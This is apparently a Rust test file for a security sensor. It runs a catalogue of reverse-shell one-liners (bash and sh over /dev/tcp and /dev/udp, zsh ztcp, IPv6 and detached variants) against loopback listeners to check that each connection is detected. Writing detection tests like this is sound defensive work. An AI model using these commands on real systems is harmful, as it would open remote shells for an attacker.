//! Shells that connect by themselves: /dev/tcp, /dev/udp, ztcp.

use sensor_tests::{
    lab::LOOP,
    peer::{Listener, V4, V6},
    suite::Case,
};

/// What bash is told, by what it shows.
const TCP: [(&str, &str); 12] = [
    ("both_streams", "bash -i >& /dev/tcp/$H/$P 0>&1"),
    ("ampersand_first", "bash -i &> /dev/tcp/$H/$P <&1"),
    ("fd_196", "exec 196<>/dev/tcp/$H/$P; bash <&196 >&196 2>&196"),
    // The form of the cheat sheets: the first redirection fails, the shell goes on.
    (
        "fd_196_classic",
        "0<&196; exec 196<>/dev/tcp/$H/$P; sh <&196 >&196 2>&196",
    ),
    ("fd_5_interactive", "exec 5<>/dev/tcp/$H/$P; bash -i <&5 >&5 2>&5"),
    ("sh_opens_and_duplicates", "sh -i 5<>/dev/tcp/$H/$P 0<&5 1>&5 2>&5"),
    ("without_stderr", "exec 7<>/dev/tcp/$H/$P; sh -i 0<&7 1>&7"),
    (
        "without_the_first_descriptor",
        "exec 7<>/dev/tcp/$H/$P; sh 0<&7 1>&7 2>&7 7<&-",
    ),
    (
        "streams_first_exec_after",
        "exec 0<>/dev/tcp/$H/$P; exec 1>&0 2>&0; exec sh",
    ),
    (
        "stdin_is_the_only_open_description",
        "exec 0<>/dev/tcp/$H/$P 1>&0 2>&0; exec bash --norc -i",
    ),
    ("by_host_name", "exec 9<>/dev/tcp/localhost/$P; bash <&9 >&9 2>&9"),
    (
        "orphaned",
        "setsid nohup bash -c 'exec 3<>/dev/tcp/$H/$P; bash <&3 >&3 2>&3; true' & exit 0",
    ),
];

const UDP: [(&str, &str); 2] = [
    ("interactive", "exec 5<>/dev/udp/$H/$P; bash --norc -i <&5 >&5 2>&5"),
    ("both_streams", "sh -i >& /dev/udp/$H/$P 0>&1"),
];

const ZSH: [(&str, &str); 2] = [
    (
        "same_descriptor",
        r#"exec zsh -c 'zmodload zsh/net/tcp && ztcp $H $P && zsh <&$REPLY >&$REPLY 2>&$REPLY; true'"#,
    ),
    (
        "interactive",
        r#"exec zsh -fc 'zmodload zsh/net/tcp; ztcp $H $P; exec zsh -fi 0<&$REPLY 1>&0 2>&0'"#,
    ),
];

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, script) in TCP {
        cases.push(Case::new(format!("bash::tcp_{name}"), &["bash"], move |lab| {
            lab.reverse(script)
        }));
    }
    for (name, script) in UDP {
        cases.push(Case::new(format!("bash::udp_{name}"), &["bash"], move |lab| {
            lab.reverse_to(&Listener::udp(V4)?, "127.0.0.1", script)
        }));
    }
    for (name, script) in ZSH {
        cases.push(Case::new(format!("zsh::ztcp_{name}"), &["zsh"], move |lab| {
            lab.reverse(script)
        }));
    }
    cases.push(Case::new("bash::tcp_over_ipv6", &["bash"], |lab| {
        lab.reverse_to(
            &Listener::tcp(V6)?,
            "::1",
            "exec 5<>/dev/tcp/$H/$P; bash -i <&5 >&5 2>&5",
        )
    }));
    cases.push(Case::new("bash::udp_over_ipv6", &["bash"], |lab| {
        lab.reverse_to(&Listener::udp(V6)?, "::1", "exec 5<>/dev/udp/$H/$P; sh -i <&5 >&5 2>&5")
    }));
    // Its own exec is older than the connection: only its commands show what it has become.
    cases.push(Case::new("bash::turns_its_own_streams", &["bash"], |lab| {
        let listener = Listener::tcp(V4)?;
        let script = "bash -s <<< 'exec 5<>/dev/tcp/$H/$P; exec 0<&5 1>&5 2>&5'; true";
        lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port()?.to_string())])?;
        let mut peer = listener.accept()?;
        peer.id()?;
        let finding = lab.finding(peer.ends(), LOOP)?;
        peer.send("exit\n")?;
        lab.ended(&finding)?;
        Ok(())
    }));
    cases
}
